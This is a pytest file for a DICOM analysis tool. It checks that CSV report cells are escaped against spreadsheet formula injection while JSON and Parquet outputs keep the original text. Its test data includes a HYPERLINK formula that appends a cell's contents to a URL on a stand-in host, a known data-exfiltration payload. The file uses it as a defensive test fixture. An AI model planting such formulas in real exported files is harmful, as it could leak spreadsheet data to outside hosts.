"""Formula injection: CSV cells never start a spreadsheet formula; JSON and Parquet keep text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pydicom
import pytest

from backmice.cli import main
from backmice.report.write import spreadsheet_safe, spreadsheet_text

SAMPLES = Path(__file__).resolve().parents[2] / "sample_data"
FORMULA = '=HYPERLINK("http://example.com/x?"&A1,"click")'


def _study(folder: Path) -> Path:
    """The Dixon sample (its quick analysis has nodules deep to the fascia), named ``FORMULA``."""
    for f in sorted((SAMPLES / "dixon").rglob("*.dcm")):
        ds = pydicom.dcmread(f)
        ds.SeriesDescription = FORMULA
        path = folder / f.relative_to(SAMPLES / "dixon")
        path.parent.mkdir(parents=True, exist_ok=True)
        ds.save_as(path)
    return folder


@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_text_and_come_back(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_text(spreadsheet_safe(text)) == text
    assert spreadsheet_safe(-6.5) == -6.5 and spreadsheet_safe("T1 AX") == "T1 AX"


def test_analyze_csv_is_safe_and_json_keeps_the_name(tmp_path):
    study = _study(tmp_path / "=1+2")
    out = tmp_path / "out"
    assert main(["analyze", str(study), "--out", str(out), "--no-qc"]) == 0
    with (out / "nodules.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and {r["study"] for r in rows} == {"'=1+2"}
    assert any(r["fascia_offset_mm"].startswith("-") for r in rows)  # numbers stay numbers
    assert json.loads((out / "nodules.json").read_text())["study"] == "=1+2"


def test_batch_tables(tmp_path):
    _study(tmp_path / "cohort" / "=1+2")
    out = tmp_path / "out"
    # In this process (no worker to start): the tables are the test, not the pool.
    argv = ["batch", str(tmp_path / "cohort"), "--out", str(out), "--workers", "0", "--no-qc"]
    assert main([*argv, "--quiet"]) == 0
    with (out / "studies.csv").open(encoding="utf-8") as fh:
        [row] = list(csv.DictReader(fh))
    # The Dixon pair's two descriptions (both the formula), escaped once, at the cell's start.
    assert row["folder"] == "'=1+2" and row["series_description"] == f"'{FORMULA};{FORMULA}"
    for line in (out / "nodules.csv").read_text(encoding="utf-8").splitlines()[1:]:
        assert not line.startswith(("=", "+", "-", "@"))
    frame = pd.read_parquet(out / "nodules.parquet")
    assert not frame["study"].str.startswith("'").any()
